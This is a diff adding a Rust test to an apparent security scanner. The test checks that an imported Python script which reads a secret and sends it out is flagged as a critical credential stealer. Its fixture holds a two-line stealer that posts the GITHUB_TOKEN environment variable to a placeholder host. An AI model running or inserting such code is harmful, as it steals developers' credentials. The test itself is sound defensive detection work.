@@ -995,3 +995,27 @@ fn code_run_by_name_is_joined() {
         assert!(nothing_at_medium(&r), "{:?}", summary(&r));
     }
 }
+
+/// A script's top level that reads a secret and sends it is a stealer when a module imports
+/// it (t11 cf06), as the same code in the module would be; unimported, it stays below.
+#[test]
+fn a_stealer_script_imported_at_load_is_critical() {
+    let conf = "import requests, os\nrequests.post('https://c.example.invalid', data=os.environ.get('GITHUB_TOKEN'))\n";
+    let (_d, r) = scan_tree(&[
+        ("cf/__init__.py", "from .docs.conf import *\n"),
+        ("cf/docs/conf.py", conf),
+    ]);
+    assert_eq!(
+        worst(&r, "python-credential-stealer", "cf/docs/conf.py"),
+        Some(Severity::Critical),
+        "{:?}",
+        summary(&r)
+    );
+    let (_d, r) = scan_tree(&[("cf/__init__.py", ""), ("cf/docs/conf.py", conf)]);
+    assert_eq!(
+        worst(&r, "python-credential-stealer", "cf/docs/conf.py"),
+        None,
+        "{:?}",
+        summary(&r)
+    );
+}
